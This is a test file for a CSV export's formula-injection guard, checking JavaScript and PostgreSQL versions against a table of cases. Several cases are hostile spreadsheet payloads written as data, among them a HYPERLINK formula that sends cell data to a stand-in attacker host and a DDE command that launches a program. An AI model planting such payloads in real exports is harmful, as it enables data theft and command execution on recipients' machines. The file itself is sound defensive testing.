/**
 * The formula-injection guard's table of cases (OWASP CSV Injection, plus Apple Numbers' full-width forms), run
 * through the JavaScript guard (csv-stringify exports) and its SQL twin (PostgreSQL COPY exports).
 */
import { expect } from 'chai';
import { sql } from 'kysely';
import { neutraliseFormula } from '../../src/reports/index.js';
import { neutraliseFormulaSql } from '../../src/reports/formula-guard.js';
import { recordCase } from '../support/adversarial.js';
import { forEachStore } from '../support/store.js';

/** [name, cell text as typed by a stranger, cell text written to the CSV] */
export const FORMULA_CASES: ReadonlyArray<readonly [string, string, string]> = [
  ['equals formula', '=1+1', "'=1+1"],
  ['HYPERLINK exfiltration', '=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
  ['DDE command', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['plus formula', '+1+1', "'+1+1"],
  ['minus formula', '-2+3', "'-2+3"],
  ['minus that looks like a number (text cell)', '-12.50', "'-12.50"],
  ['at function', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['leading tab', '\t=1+1', "'\t=1+1"],
  ['leading carriage return', '\r=1+1', "'\r=1+1"],
  ['full-width equals (Numbers)', '\uFF1D1+1', "'\uFF1D1+1"],
  ['full-width plus (Numbers)', '\uFF0B1', "'\uFF0B1"],
  ['full-width minus (Numbers)', '\uFF0D1', "'\uFF0D1"],
  ['full-width at (Numbers)', '\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
  ['lone equals', '=', "'="],
  ['lone minus', '-', "'-"],
  ['apostrophe first: already text, left alone', "'=1+1", "'=1+1"],
  ['leading space before equals', ' =1+1', "' =1+1"],
  ['leading spaces before HYPERLINK', '   =HYPERLINK("http://evil.example/")', '\'   =HYPERLINK("http://evil.example/")'],
  ['leading line feed before equals', '\n=1+1', "'\n=1+1"],
  ['leading CR LF before at', '\r\n@SUM(A1)', "'\r\n@SUM(A1)"],
  ['leading space then tab before plus', ' \t+1', "' \t+1"],
  ['leading space before minus formula', ' -2+3', "' -2+3"],
  ['leading space before full-width equals', ' \uFF1D1', "' \uFF1D1"],
  ['leading space then a word is text', ' spring sale', ' spring sale'],
  ['blanks only', ' \n ', ' \n '],
  ['space then tab then a word is text', ' \tspring', ' \tspring'],
  ['quote then equals is text', '"=1"', '"=1"'],
  ['equals later in the text', 'a=1+1', 'a=1+1'],
  ['plain SubID', 'spring-sale_2026', 'spring-sale_2026'],
  ['email with plus', 'ann+promo@example.com', 'ann+promo@example.com'],
  ['unicode name', 'Zoë Ünïcødé 😀', 'Zoë Ünïcødé 😀'],
  ['empty', '', ''],
];

describe('reports: formula-injection guard (JavaScript)', () => {
  for (const [name, input, expected] of FORMULA_CASES) {
    it(name, () => {
      const out = neutraliseFormula(input);
      expect(recordCase('CSV formula injection', `js: ${name}`, out === expected), JSON.stringify(out)).to.equal(true);
    });
  }
});

forEachStore('reports: formula-injection guard (SQL twin used by COPY)', (ctx) => {
  // Only PostgreSQL formats cells in SQL: on SQLite there is nothing to run.
  if (ctx.kind !== 'postgres') return;
  it('gives the JavaScript guard\'s answer for every case (empty text as NULL)', async () => {
    for (const [name, input, expected] of FORMULA_CASES) {
      const { rows } = await sql<{ cell: string | null }>`select ${neutraliseFormulaSql(sql`cast(${input} as text)`)} as cell`.execute(ctx.store.db);
      const cell = rows[0]!.cell ?? '';
      expect(recordCase('CSV formula injection', `sql: ${name}`, cell === expected), `${name}: ${JSON.stringify(cell)}`).to.equal(true);
    }
  });
});
